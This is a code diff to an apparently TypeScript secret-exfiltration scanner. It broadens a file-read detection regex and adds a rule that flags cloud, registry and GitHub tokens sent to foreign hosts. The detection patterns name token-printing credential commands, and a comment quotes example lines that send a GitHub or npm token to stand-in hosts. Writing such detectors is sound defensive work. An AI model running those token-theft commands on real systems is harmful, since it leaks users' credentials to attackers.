@@ -8,7 +8,7 @@
 import { DOTENV_PATH, NETWORK_SINK, SECRET_PATH, UPLOAD_FLAG, extractUrls, parseIpHost, isNegated, isMention, patternRule, type Hit, type Rule } from "../../../scan";
 
 /** Shell and code forms of reading a file, directly before the path. */
-const READ_BEFORE = /(?:\b(?:cat|less|more|head|tail|tac|nl|cp|mv|scp|rsync|base64|xxd|od|strings|tar|zip|7z|gpg|openssl|Get-Content|Copy-Item|Compress-Archive|ReadAllText|ReadAllBytes)\b[^\n|;&]{0,60}|\b(?:open|readFile|readFileSync|createReadStream|read_text|read_bytes|readlines|File\.read|IO\.read|Path|expanduser|join|glob)\s*\([^\n)]{0,80}|<\s*["']?|@["']?|\b(?:read|open|send|upload|include|attach|paste|print|output|return|extract|collect|grab|exfiltrate|leak|dump|steal|harvest|pass|forward|encode|copy|move|embed)\s+(?:the\s+|its\s+|their\s+|your\s+)?(?:(?:full\s+)?contents?\s+of\s+|file\s+(?:at\s+)?|data\s+(?:in|from)\s+)?["'`]?)$/i;
+const READ_BEFORE = /(?:\b(?:cat|less|more|head|tail|tac|nl|cp|mv|scp|rsync|base64|xxd|od|strings|tar|zip|7z|gpg|openssl|grep|egrep|fgrep|zgrep|rg|ag|awk|gawk|sed|jq|yq|cut|sort|uniq|dd|sqlite3|Get-Content|Select-String|Copy-Item|Compress-Archive|ReadAllText|ReadAllBytes)\b[^\n|;&]{0,60}|\b(?:open|readFile|readFileSync|createReadStream|read_text|read_bytes|readlines|File\.read|IO\.read|Path|expanduser|join|glob)\s*\([^\n)]{0,80}|<\s*["']?|@["']?|\b(?:read|open|send|upload|include|attach|paste|print|output|return|extract|collect|grab|exfiltrate|leak|dump|steal|harvest|pass|forward|encode|copy|move|embed)\s+(?:the\s+|its\s+|their\s+|your\s+)?(?:(?:full\s+)?contents?\s+of\s+|file\s+(?:at\s+)?|data\s+(?:in|from)\s+)?["'`]?)$/i;
 
 const CODE_STRING = /["'`][^"'`\n]*$/;
 
@@ -156,4 +156,88 @@ export const dumpToNetwork = patternRule({
   message: "Streams a database dump or an archive straight to a remote host",
 });
 
-export const EXFILTRATION_RULES: Rule[] = [secretRead, dotenvRead, envDump, secretToNetwork, dumpToNetwork];
+// ---- tokens sent somewhere they do not belong --------------------------------------------------
+
+const GITHUB = ["github.com", "githubusercontent.com", "ghcr.io", "ghe.com"];
+const GOOGLE = ["googleapis.com", "google.com", "gcr.io", "pkg.dev", "run.app", "cloudfunctions.net", "appspot.com"];
+const AWS = ["amazonaws.com", "aws.amazon.com", "awsapps.com", "amazonaws.com.cn"];
+const AZURE = ["azure.com", "azure.net", "windows.net", "microsoft.com", "microsoftonline.com", "azurecr.io", "azurewebsites.net"];
+const NPM = ["npmjs.org", "npmjs.com", "npm.pkg.github.com"];
+const PYPI = ["pypi.org", "pythonhosted.org"];
+
+interface TokenSource {
+  re: RegExp;
+  what: string;
+  /** Where this token is meant to go: sending it anywhere else (but this machine or its network) is theft. */
+  home: readonly string[];
+}
+
+/** Credential helpers that print a token, and the variables well-known tokens live in. */
+const TOKEN_SOURCES: TokenSource[] = [
+  { re: /\bgh\s+auth\s+token\b|\bgh\s+auth\s+status\b[^\n]*--show-token\b/, what: "the GitHub CLI's token", home: GITHUB },
+  { re: /\bgcloud\s+(?:auth\s+(?:application-default\s+)?print-(?:access|identity)-token|config\s+config-helper)\b/, what: "a Google Cloud token", home: GOOGLE },
+  { re: /\baws\s+configure\s+(?:get\s+(?:aws_secret_access_key|aws_access_key_id|aws_session_token)|export-credentials)\b|\baws\s+sts\s+get-session-token\b/, what: "AWS credentials", home: AWS },
+  { re: /\baz\s+account\s+get-access-token\b/, what: "an Azure access token", home: AZURE },
+  { re: /\bheroku\s+auth:token\b/, what: "the Heroku token", home: ["heroku.com", "herokuapp.com"] },
+  { re: /\b(?:fly|flyctl)\s+auth\s+token\b/, what: "the Fly.io token", home: ["fly.io", "fly.dev"] },
+  { re: /\bnpm\s+(?:config\s+)?get\s+[^\n]*_authToken\b/, what: "the npm token", home: NPM },
+  { re: /\b(?:GITHUB_TOKEN|GH_TOKEN|GITHUB_PAT|GH_PAT|COPILOT_GITHUB_TOKEN)\b/, what: "a GitHub token", home: GITHUB },
+  { re: /\b(?:NPM_TOKEN|NODE_AUTH_TOKEN|NPM_AUTH_TOKEN)\b/, what: "the npm token", home: NPM },
+  { re: /\b(?:PYPI_TOKEN|PYPI_API_TOKEN|TWINE_PASSWORD)\b/, what: "the PyPI token", home: PYPI },
+  { re: /\bCARGO_REGISTRY_TOKEN\b/, what: "the crates.io token", home: ["crates.io"] },
+  { re: /\b(?:AWS_SECRET_ACCESS_KEY|AWS_SESSION_TOKEN)\b/, what: "AWS credentials", home: AWS },
+];
+
+/** Sends data: the shared network sinks, plus Node's `https.get`/`require('https')` and common HTTP clients. */
+const SENDS = new RegExp(`${NETWORK_SINK.source}|\\bhttps?\\.get\\s*\\(|\\brequire\\(\\s*\\\\?["'\`](?:node:)?https?\\\\?["'\`]\\s*\\)\\.(?:get|request)\\b|\\b(?:got|ky|needle|superagent)\\s*[.(]`, "i");
+/** A token spliced into a URL literal (query, path or header of a request someone else receives). */
+const IN_URL = /https?:\/\/[^\s"'`]*(?:\$\{?|\{|%)\s*[\w.$()[\]'"]*$|["'`]https?:\/\/[^"'`\s]*["'`]\s*\+\s*[^\n]{0,40}$/;
+
+const belongs = (host: string, home: readonly string[]) => {
+  const ip = parseIpHost(host);
+  if (host === "localhost" || host.endsWith(".localhost") || (ip && ip.range !== "public" && ip.range !== "metadata")) return true;
+  return home.some((d) => host === d || host.endsWith(`.${d}`));
+};
+
+/**
+ * A token sent to a host it does not belong to: `curl -H "Authorization: token $(gh auth token)"
+ * https://gh-helper.example.com`, `'https://t.example.com/?t=' + process.env.NPM_TOKEN`, or a
+ * variable that took the token on an earlier line. Using the token with its own service
+ * (api.github.com, registry.npmjs.org …) or on this machine is what it is for.
+ */
+export const tokenToHost: Rule = {
+  id: "exfil.token-to-host",
+  severity: "critical",
+  title: "Token sent to a foreign host",
+  text(text, ctx) {
+    const hits: Hit[] = [];
+    const held = new Map<string, TokenSource>();
+    for (let n = 1; n <= ctx.lines.count && hits.length < 3; n++) {
+      const line = ctx.lines.line(n);
+      const direct = TOKEN_SOURCES.filter((t) => t.re.test(line));
+      // A variable that takes a token here carries it to later lines.
+      const assigned = /^\s*(?:export\s+|local\s+|readonly\s+|const\s+|let\s+|var\s+)?\$?([A-Za-z_]\w*)\s*:?=/.exec(line);
+      if (assigned && direct.length) held.set(assigned[1]!, direct[0]!);
+      const carried = [...held].filter(([name]) => name !== assigned?.[1] && new RegExp(`(?<![\\w$])\\$?\\{?${name}\\b`).test(line)).map(([, t]) => t);
+      const sources = [...direct, ...carried];
+      if (!sources.length) continue;
+      const urls = extractUrls(line);
+      if (!urls.length) continue;
+      const first = sources[0]!;
+      const at = first.re.exec(line)?.index ?? 0;
+      if (isNegated(line, at)) continue;
+      const sends = SENDS.test(line) || sources.some((t) => {
+        const m = t.re.exec(line);
+        return m ? IN_URL.test(line.slice(0, m.index)) : false;
+      });
+      if (!sends) continue;
+      const foreign = urls.find((u) => sources.every((t) => !belongs(u.host, t.home)));
+      if (!foreign) continue;
+      const t = sources.find((s) => !belongs(foreign.host, s.home))!;
+      hits.push({ index: ctx.lines.startOf(n) + foreign.offset, length: foreign.length, message: `Sends ${t.what} to ${foreign.host}, which is not where that token belongs` });
+    }
+    return hits;
+  },
+};
+
+export const EXFILTRATION_RULES: Rule[] = [secretRead, dotenvRead, envDump, secretToNetwork, dumpToNetwork, tokenToHost];
